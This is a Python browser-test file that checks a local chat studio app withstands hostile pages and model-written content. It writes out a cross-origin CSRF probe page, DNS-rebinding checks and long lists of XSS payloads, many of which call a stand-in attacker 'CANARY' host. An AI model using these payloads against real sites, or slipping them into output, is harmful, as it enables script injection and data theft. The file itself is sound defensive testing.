"""What other pages, and what models write, can do to a studio in a real browser: nothing.

Every attack is also run where it must succeed (on a page without our protection), so that a silent payload is no proof.
"""

from __future__ import annotations

import io
import json
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import urlsplit

import pytest
from PIL import Image
from playwright.sync_api import Browser, Page, expect

from studio.tree import Part
from tests.conftest import CHROMIUM, CHROMIUM_FLAGS, Served, new_context, plant, wait, watch

pytestmark = pytest.mark.browser


@dataclass
class Elsewhere:
    """Another web server on loopback: it serves ``pages`` and notes every request."""

    port: int = 0
    pages: dict[str, str] = field(default_factory=dict)
    hits: list[str] = field(default_factory=list)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"


@pytest.fixture
def elsewhere() -> Iterator[Elsewhere]:
    here = Elsewhere()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            here.hits.append(self.path)
            page = here.pages.get(urlsplit(self.path).path)
            self.send_response(200 if page is not None else 404)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.end_headers()
            self.wfile.write((page or "").encode())

        do_POST = do_GET

        def log_message(self, *_: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    here.port = server.server_address[1]
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield here
    server.shutdown()
    server.server_close()
    thread.join(5)


def picture(served: Served) -> str:
    """A stored picture; returns its hash."""
    out = io.BytesIO()
    Image.new("RGB", (30, 20), "teal").save(out, "PNG")
    stored = served.studio.media.add(out.getvalue())
    served.studio.store.add_image(stored.sha256, stored.mime, 30, 20, stored.bytes, "upload")
    return stored.sha256


# ---- the real page under its own policy


def test_the_real_page_breaks_none_of_its_rules(browser: Browser, served: Served) -> None:
    ids = plant(served.studio, "What is *this*?", "A $x^2$ and\n\n```python\nx = 1\n```", "Show me.")
    parts = [Part("text", "look"), Part("image", image_sha256=picture(served), caption="teal")]
    tree = served.studio.store.node(ids[0]).tree_id
    served.studio.store.add_node(tree, ids[-1], "assistant", parts)
    context = new_context(browser, viewport={"width": 1440, "height": 900})
    context.add_init_script("window.violations = [];"
        "document.addEventListener('securitypolicyviolation', e => violations.push(e.violatedDirective + ' ' + e.blockedURI))")  # fmt: skip
    page = context.new_page()
    troubles, asked = watch(page), []
    page.on("request", lambda request: asked.append(request.url))
    page.goto(f"{served.url}&tree={tree}")
    expect(page.locator(".card")).to_have_count(4)
    expect(page.locator(".card img").first).to_have_js_property("complete", True)
    assert page.locator(".card img").first.evaluate("img => img.naturalWidth") == 30
    page.locator("#message textarea").fill("And now?")
    page.locator("#message textarea").press("Enter")
    expect(page.locator(".card.assistant").last).to_contain_text("This is an echo")
    for tab in ("Data", "Settings", "Explore"):
        page.get_by_role("tab", name=tab).click()
    expect(page.locator(".card").first).to_be_visible()
    page.reload()
    expect(page.locator(".card")).to_have_count(6)
    assert page.evaluate("violations") == []
    assert troubles == []
    own = {"", f"127.0.0.1:{served.port}"}  # data: and blob: have no host
    assert {urlsplit(url).netloc for url in asked} <= own
    assert "let-me-in" not in page.content()
    assert page.evaluate("document.cookie") == ""
    context.close()


# ---- another page, in the same browser

ATTACK = """<!doctype html><body><script>
const S = "%s", results = {}, wait = ms => new Promise(done => setTimeout(done, ms));
const gets = ["/", "/?tree=1", "/config", "/media/%s", "/studio/boot.js", "/gradio_api/startup-events", "/gradio_api/heartbeat/x"];
const body = JSON.stringify({fn_index: 0, data: [], session_hash: "x"});
const posts = ["/gradio_api/queue/join", "/gradio_api/run/predict", "/gradio_api/call/predict", "/gradio_api/upload", "/gradio_api/cancel",
               "/gradio_api/component_server", "/gradio_api/reset"];
async function attempt(name, go) { try { results[name] = await go(); } catch (error) { results[name] = "blocked"; } }
const element = (tag, set) => new Promise(done => {
  const made = document.createElement(tag);
  made.onload = () => done("loaded"); made.onerror = () => done("blocked");
  Object.assign(made, set); document.body.append(made); setTimeout(() => done("blocked"), 3000);
});
const form = (path, kind) => {
  const frame = Object.assign(document.createElement("iframe"), {name: "f" + Math.random()});
  const made = Object.assign(document.createElement("form"), {method: "POST", action: S + path, target: frame.name, enctype: kind});
  made.append(Object.assign(document.createElement("input"), {name: '{"fn_index":0,"x":"', value: '"}'}));
  document.body.append(frame, made); made.submit();
};
(async () => {
  const upload = new FormData();
  upload.append("files", new Blob(["<script>1</" + "script>"], {type: "text/html"}), "evil.html");
  for (const credentials of ["include", "omit"]) for (const mode of ["cors", "no-cors"]) {
    for (const path of gets) await attempt(`GET ${path} ${mode} ${credentials}`,
      async () => (await (await fetch(S + path, {mode, credentials})).text()).slice(0, 80));
    for (const path of posts) await attempt(`POST ${path} ${mode} ${credentials}`,
      async () => (await (await fetch(S + path, {mode, credentials, method: "POST", body: path.endsWith("upload") ? upload : body})).text()).slice(0, 80));
    await attempt(`JSON ${mode} ${credentials}`, async () => (await (await fetch(S + posts[0],
      {mode, credentials, method: "PUT", headers: {"content-type": "application/json"}, body})).text()).slice(0, 80));
  }
  await attempt("img", () => element("img", {src: S + "/media/%s"}));
  await attempt("script", async () => (await element("script", {src: S + "/studio/boot.js"})) + " " + typeof window.studioRubric);
  await attempt("style", () => element("link", {rel: "stylesheet", href: S + "/studio/studio.css"}));
  await attempt("events", () => new Promise(done => {
    const stream = new EventSource(S + "/gradio_api/queue/data?session_hash=x", {withCredentials: true});
    stream.onopen = () => done("open"); stream.onerror = () => { stream.close(); done("blocked"); };
  }));
  await attempt("socket", () => new Promise(done => {
    const socket = new WebSocket(S.replace("http", "ws") + "/gradio_api/queue/join");
    socket.onopen = () => done("open"); socket.onerror = () => done("blocked");
  }));
  navigator.sendBeacon(S + posts[0], body);
  for (const kind of ["application/x-www-form-urlencoded", "multipart/form-data", "text/plain"]) form(posts[0], kind);
  form("/gradio_api/upload", "multipart/form-data"); form("/", "text/plain");
  const frame = Object.assign(document.createElement("iframe"), {src: S + "/", name: "framed"});
  document.body.append(frame);
  await wait(1500);
  results.frame = frame.contentDocument ? frame.contentDocument.body.innerText : "blocked";
  window.results = results;
})();
</script>"""


@pytest.mark.parametrize("name", ["127.0.0.1", "localhost"], ids=["same site, other port", "other site"])
def test_another_page_reads_and_changes_nothing(page: Page, served: Served, elsewhere: Elsewhere, name: str) -> None:
    """The hardest case: the person is let in, and a page of the same host on another port has the browser send the cookie."""
    plant(served.studio, "a private question", "a private reply")
    sha256 = picture(served)
    before = served.studio.store.counts()
    elsewhere.pages["/"] = ATTACK % (f"http://127.0.0.1:{served.port}", sha256, sha256)
    evil = page.context.new_page()
    wire = evil.context.new_cdp_session(evil)  # a page never hears of the answers that the browser keeps from it
    statuses, cookies = [], []
    wire.on(
        "Network.responseReceivedExtraInfo",
        lambda e: statuses.append((e["statusCode"], "x-frame-options" in e["headers"])),
    )
    wire.on(
        "Network.requestWillBeSentExtraInfo",
        lambda e: cookies.append("intermt-studio" in e["headers"].get("Cookie", "")),
    )
    wire.send("Network.enable")
    evil.goto(f"http://{name}:{elsewhere.port}/")
    evil.wait_for_function("() => window.results", timeout=60_000)
    results: dict[str, str] = evil.evaluate("results")
    assert len(results) == 4 * 15 + 6
    readable = {what: said for what, said in results.items() if said not in ("blocked", "", "blocked undefined")}
    assert readable == {}
    assert "private" not in json.dumps(results)
    refused = [status for status, ours in statuses if ours]
    assert len(refused) > 40
    assert set(refused) <= {401, 403, 405}
    assert any(cookies) == (name == "127.0.0.1")  # a site is a host, whatever the port
    assert not [f for f in evil.frames if "tree-list" in f.content()]
    assert served.studio.store.counts() == before


def test_a_popup_of_another_page_cannot_be_reached(page: Page, served: Served, elsewhere: Elsewhere) -> None:
    elsewhere.pages["/"] = (
        f"<button onclick=\"window.opened = window.open('http://127.0.0.1:{served.port}/')\">x</button>"
    )
    evil = page.context.new_page()
    evil.goto(elsewhere.url)
    with page.context.expect_page() as found:
        evil.locator("button").click()
    found.value.wait_for_load_state()
    evil.wait_for_function("() => window.opened.closed")  # cut off: another browsing context group
    assert found.value.evaluate("window.opener") is None


def test_a_name_that_was_rebound_to_this_computer(served: Served, browser: Browser) -> None:
    plant(served.studio, "a private question", "a private reply")
    rebound = browser.browser_type.launch(
        executable_path=CHROMIUM, args=[*CHROMIUM_FLAGS, "--host-resolver-rules=MAP evil.test 127.0.0.1"]
    )
    page = rebound.new_page()
    for path in ("/", "/?token=let-me-in", "/config"):
        answer = page.goto(f"http://evil.test:{served.port}{path}")
        assert answer is not None
        assert answer.status == 421
        assert page.context.cookies() == []
    assert page.evaluate("fetch('/config').then(r => r.status)") == 421
    rebound.close()


# ---- what a model writes. CANARY is a server of the attacker; __pwned is set by any script that runs

RAW = [
    "<script>window.__pwned = 1; fetch('CANARY/script')</script>", "<img src=x onerror=\"window.__pwned = 2\">",
    "<img src=CANARY/img>", "<svg onload=\"window.__pwned = 3\"></svg>", "<iframe src=CANARY/iframe></iframe>",
    "<iframe srcdoc=\"<script>parent.__pwned = 4</script>\"></iframe>", "<link rel=stylesheet href=CANARY/link>",
    "<style>@import 'CANARY/import'; body { background: url(CANARY/background) }</style>", "<object data=CANARY/object></object>",
    "<embed src=CANARY/embed>", "<video src=CANARY/video autoplay></video>", "<video poster=CANARY/poster></video>",
    "<audio src=CANARY/audio autoplay></audio>", "<input autofocus onfocus=\"window.__pwned = 5\">",
    "<details open ontoggle=\"window.__pwned = 6\">x</details>", "<p style=\"background: url(CANARY/style)\">x</p>",
    "<svg><image href=CANARY/svg /></svg>", "<svg><animate onbegin=\"window.__pwned = 7\" attributeName=x dur=1s></svg>",
    "<picture><source srcset=CANARY/srcset><img src=x></picture>", "<script src=CANARY/src.js></script>",
    "<table background=CANARY/table><tr><td>x</td></tr></table>", "<link rel=prefetch href=CANARY/prefetch>",
    "<body onload=\"window.__pwned = 8\">", "<b onmouseover=\"window.__pwned = 9\">over</b>",
]  # fmt: skip
MARKDOWN = [
    "![](CANARY/md)", "![x](CANARY/md \"title\")", "![x][r]\n\n[r]: CANARY/reference", "[![](CANARY/linked)](CANARY/link)",
    "[x](javascript:window.__pwned=10)", "[x](JaVaScRiPt:window.__pwned=11)", "[x](java\tscript:window.__pwned=11)", "<javascript:window.__pwned=12>",
    "[x](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD0xMzwvc2NyaXB0Pg==)", "[x](vbscript:x \"onmouseover=window.__pwned=14\")",
    "![x\" onerror=\"window.__pwned=15](x)", "[x](CANARY \"\\\" onmouseover=\\\"window.__pwned=16\")", "```html\"onload=\"x\n<script>window.__pwned=17</script>\n```",
    "`<img src=x onerror=window.__pwned=18>`", "$\\href{javascript:window.__pwned=19}{x}$", "$\\unicode{<script>window.__pwned=20</script>}$",
    "$$\\text{<img src=x onerror=window.__pwned=21>}$$", "<Image, \"><img src=CANARY/token onerror=window.__pwned=22>>",
    "<Image, ' onmouseover='window.__pwned=23>", "<math><mtext><img src=x onerror=window.__pwned=24></mtext></math>",
    "| <img src=CANARY/cell> |\n|---|\n| <script>window.__pwned=25</script> |", "&lt;img src=x onerror=window.__pwned=26&gt;",
    "${window.__pwned=27}", "{{constructor.constructor('window.__pwned=28')()}}", "</script><script>window.__pwned=29</script>",
    "</textarea></template></pre><img src=x onerror=window.__pwned=30>", "<noscript><p title=\"</noscript><img src=x onerror=window.__pwned=31>\">",
    "<svg></p><style><a id=\"</style><img src=x onerror=window.__pwned=32>\">",
]  # fmt: skip


def test_the_raw_payloads_would_work(browser: Browser, elsewhere: Elsewhere) -> None:
    """The control: in a careless page these run, and reach the canary."""
    for i, text in enumerate(RAW):
        elsewhere.pages[f"/{i}"] = text.replace("CANARY", elsewhere.url)
    page = browser.new_page()
    ran = set()
    for i in range(len(RAW)):
        page.goto(f"{elsewhere.url}/{i}")
        page.mouse.move(20, 15)
        page.wait_for_timeout(50)
        ran.add(page.evaluate("window.__pwned ?? 0"))
    page.close()
    assert len(ran - {0}) >= 7
    reached = {h for h in elsewhere.hits if not h[1:].isdigit()}
    assert len(reached) >= 12


def test_what_a_model_writes_stays_text(page: Page, served: Served, elsewhere: Elsewhere) -> None:
    texts = [text.replace("CANARY", elsewhere.url) for text in (*RAW, *MARKDOWN)]
    store = served.studio.store
    for start in range(0, len(texts), 13):
        some = texts[start : start + 13]
        tree = store.create_tree(some[0], source=some[1])
        above = store.add_node(tree, None, "user", [Part("text", some[0])])
        for text in some:
            above = store.add_node(
                tree, above, "assistant", [Part("text", text), Part("image", text=text, caption=text)], model=text
            )
            above = store.add_node(tree, above, "user", [Part("text", text)])
        store.add_node(tree, above, "assistant", [Part("text", some[-1])], model="m", status="failed", error=some[-1])
        page.evaluate("id => studio.open({tree: id})", tree)
        wait_for_all(page, 2 * len(some) + 2)
        for card in page.locator(".card.assistant").all():
            card.locator(".body").dispatch_event("click")
            card.locator(".body").dispatch_event("mouseover")
        page.locator(".card .body").last.hover()
        page.wait_for_timeout(200)
        assert page.evaluate("window.__pwned") is None
        assert (
            page.locator(
                ".transcript script, .card iframe, .card object, .card embed, .card style, .card link, .card form"
            ).count()
            == 0
        )
        sources = page.evaluate(
            "[...document.images].map(i => i.src).filter(s => !s.startsWith(location.origin) && !s.startsWith('data:'))"
        )
        assert sources == []
        links = page.evaluate("[...document.querySelectorAll('.card a')].map(a => a.protocol)")
        assert set(links) <= {"http:", "https:", "mailto:"}
    page.reload()
    wait_for_all(page, 2)
    page.wait_for_timeout(500)
    assert page.evaluate("window.__pwned") is None
    assert elsewhere.hits == []


def wait_for_all(page: Page, count: int) -> None:
    """Until as many messages are drawn, scrolling up where older ones come only then."""

    def drawn() -> bool:
        page.evaluate("document.querySelector('.card')?.scrollIntoView()")
        page.wait_for_timeout(50)
        return page.locator(".card").count() >= count

    wait(drawn, 20, f"{count} messages on the page")


def test_a_reply_that_grows_stays_text_too(page: Page, served: Served, elsewhere: Elsewhere) -> None:
    """The echo says the question back, piece by piece, so that half a payload is drawn too."""
    message = "\n\n".join((*RAW, *MARKDOWN)).replace("CANARY", elsewhere.url)
    page.locator("#message textarea").fill(message)
    page.locator("#message textarea").press("Enter")
    expect(page.locator(".card.assistant")).to_contain_text("This is an echo")
    page.wait_for_function("() => !document.querySelector('.card.growing')", timeout=60_000)
    page.wait_for_timeout(300)
    assert page.evaluate("window.__pwned") is None
    assert elsewhere.hits == []
